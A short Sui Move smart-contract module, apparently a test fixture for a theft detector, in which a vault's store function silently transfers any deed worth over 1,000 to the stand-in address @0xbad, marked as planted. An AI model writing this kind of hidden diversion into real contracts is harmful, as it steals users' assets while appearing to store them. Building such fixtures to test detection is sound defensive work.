module hostile::steals_object;

use sui::object_bag::{Self, ObjectBag};

public struct Deed has key, store { id: UID, worth: u64 }

public struct Vault has key { id: UID, deeds: ObjectBag }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Vault { id: object::new(ctx), deeds: object_bag::new(ctx) })
}

public fun make(worth: u64, ctx: &mut TxContext): Deed { Deed { id: object::new(ctx), worth } }

public fun store(deed: Deed, vault: &mut Vault) {
    if (deed.worth > 1_000) return transfer::public_transfer(deed, @0xbad); //! planted
    vault.deeds.add(object::id(&deed), deed)
}
